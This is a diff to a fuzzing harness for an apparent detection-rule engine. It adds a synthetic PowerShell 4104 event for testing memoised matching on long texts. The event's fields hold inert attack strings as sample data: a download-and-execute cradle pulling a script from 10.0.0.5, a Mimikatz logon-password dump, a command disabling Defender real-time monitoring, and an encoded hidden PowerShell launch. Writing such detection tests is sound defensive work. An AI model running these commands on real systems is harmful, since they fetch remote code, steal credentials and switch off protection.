@@ -2,8 +2,10 @@
  *
  * The input is a rule file. Loading must never crash or leak, whatever
  * the YAML, modifiers, regexes or conditions; a loaded rule set is then
- * matched against two small fixed events (Sysmon 1, Security 4688) with
- * and without the prefilter, which must agree, each event three times
+ * matched against three fixed events (Sysmon 1, Security 4688, and a
+ * PowerShell 4104 whose long texts go through the memo of item results,
+ * match/vmemo.h) with and without the prefilter, which must agree (the
+ * memo runs with the prefilter only), each event three times
  * (the second time through the scanner's cache of scan results and field
  * shapes, the third with its strings in one text), then all of them twice
  * as one batch scanned before it is matched (tn_scanner_prescan). Needs TANSA_DATA or ./data
@@ -13,6 +15,7 @@
 
 #include <stddef.h>
 #include <stdint.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -124,8 +127,29 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
         {"SubjectUserName", "admin", 0, 0, 0},
         {"TargetUserName", "-", 0, 0, 0},
     };
+    /* long texts (the memo keeps results on 1,024 bytes and more) */
+    static char script[2048], cmd[1600];
+    if (!script[0]) {
+        snprintf(script, sizeof(script), "%s",
+                 "$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://10.0.0.5/a.ps1')); "
+                 "Invoke-Mimikatz -Command 'privilege::debug sekurlsa::logonpasswords'; "
+                 "[System.Convert]::FromBase64String('SQBFAFgA'); "
+                 "Set-MpPreference -DisableRealtimeMonitoring $true; ");
+        for (size_t n = strlen(script); n + 1 < sizeof(script); n++)
+            script[n] = (char)(n % 61 == 0 ? '\n' : "abcdefghij -$(){}|"[n % 18]);
+        snprintf(cmd, sizeof(cmd), "%s",
+                 "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
+        for (size_t n = strlen(cmd); n + 1 < sizeof(cmd); n++)
+            cmd[n] = "JABjAD0ATgBlAHcA"[n % 16];
+    }
+    static tn_field h[] = {
+        {"ScriptBlockText", script, 0, 0, 0},
+        {"Path", "C:\\Users\\a\\x.ps1", 0, 0, 0},
+        {"CommandLine", cmd, 0, 0, 0},
+    };
     lens(f, sizeof(f) / sizeof(f[0]));
     lens(g, sizeof(g) / sizeof(g[0]));
+    lens(h, sizeof(h) / sizeof(h[0]));
     tn_event evs[] = {
         {.provider = "P", .provider_guid = "", .channel = "Microsoft-Windows-Sysmon/Operational",
          .computer = "h", .user_sid = "", .event_id = 1, .fields = f,
@@ -133,6 +157,9 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
         {.provider = "Microsoft-Windows-Security-Auditing", .provider_guid = "", .channel = "Security",
          .computer = "dc1", .user_sid = "S-1-5-18", .event_id = 4688, .fields = g,
          .nfields = sizeof(g) / sizeof(g[0]), .file = ""},
+        {.provider = "Microsoft-Windows-PowerShell", .provider_guid = "",
+         .channel = "Microsoft-Windows-PowerShell/Operational", .computer = "ws1", .user_sid = "",
+         .event_id = 4104, .fields = h, .nfields = sizeof(h) / sizeof(h[0]), .file = ""},
     };
     tn_rule_opts o = {.on_reject = ignore, .on_warn = ignore};
     tn_ruleset *rs, *all;
@@ -143,7 +170,8 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
         tn_ruleset_free(rs);
         return 0;
     }
-    unsigned a = matches(rs, evs, 2), b = matches(all, evs, 2);
+    size_t nev = sizeof(evs) / sizeof(evs[0]);
+    unsigned a = matches(rs, evs, nev), b = matches(all, evs, nev);
     tn_ruleset_free(rs);
     tn_ruleset_free(all);
     if (a != b)
